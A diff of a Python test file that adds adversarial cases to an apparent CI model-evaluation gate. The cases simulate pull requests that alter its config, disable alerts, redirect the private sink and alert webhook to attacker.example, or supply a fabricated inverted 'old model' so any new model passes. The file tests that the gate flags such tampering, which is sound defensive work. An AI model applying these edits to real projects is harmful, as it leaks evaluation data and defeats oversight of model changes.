@@ -48,6 +48,19 @@ def _own_testset(ws: Path) -> None:
     np.savez(ws / "mine.npz", X=rng.normal(size=(len(worse), 3)), y=worse)
 
 
+def _crafted_old(ws: Path) -> None:
+    """An old model the pull request made up: wrong everywhere, so any new model beats it."""
+    old = np.load(ws / "models" / "model.npy")
+    np.save(ws / "models" / "crafted.npy", 1 - old)
+
+
+def _both(*edits):
+    def edit(ws: Path) -> None:
+        for one in edits:
+            one(ws)
+    return edit
+
+
 def _steps_in_ledger(gh) -> list[dict]:
     ref = gh.repos[REPO].refs.get("heads/easeml-ledger")
     if ref is None:
@@ -72,6 +85,29 @@ ATTACKS = [
     ("point the private sink elsewhere",
      _append_config("private_sink: https://attacker.example/hook\n"), {}, "false", 2,
      "private_sink"),
+    ("switch the test method",
+     _append_config("method: easeml\n"), {}, "false", 2, "method"),
+    ("change the output rule",
+     _append_config("output: {threshold: 0.5}\n"), {}, "false", 2, "output"),
+    ("rank the label request from its own pool",
+     _both(_own_testset, _append_config("pool: mine.npz\n")), {}, "false", 2, "pool"),
+    ("read another label column",
+     _append_config("label_column: y2\n"), {}, "false", 2, "label_column"),
+    ("redirect the alert webhook",
+     _append_config("alerts:\n  webhook: https://attacker.example/hook\n"), {}, "false", 2,
+     "alerts.webhook"),
+    ("turn the alert issue off",
+     _append_config("alerts:\n  issue: false\n"), {}, "false", 2, "alerts.issue"),
+    ("turn the alert issue off by the Action's input",
+     _append_config("# (the workflow's input does it)\n"), {"alert-issue": "false"}, None, 2,
+     "alerts.issue"),
+    ("compare with a crafted old model",
+     _crafted_old, {"old-model": "models/crafted.npy"}, None, 2, "input old-model"),
+    ("compare with a crafted old model from its own commit",
+     _crafted_old, {"old-model": "git:HEAD:models/crafted.npy"}, None, 2, "input old-model"),
+    ("allow any old model in its own config",
+     _both(_crafted_old, _append_config("allow_any_old_model: true\n")),
+     {"old-model": "models/crafted.npy"}, "false", 2, "allow_any_old_model"),
     ("bring its own test set",
      _own_testset, {"testset": "mine.npz"}, None, 2, "not registered"),
     ("bring its own test set and config",
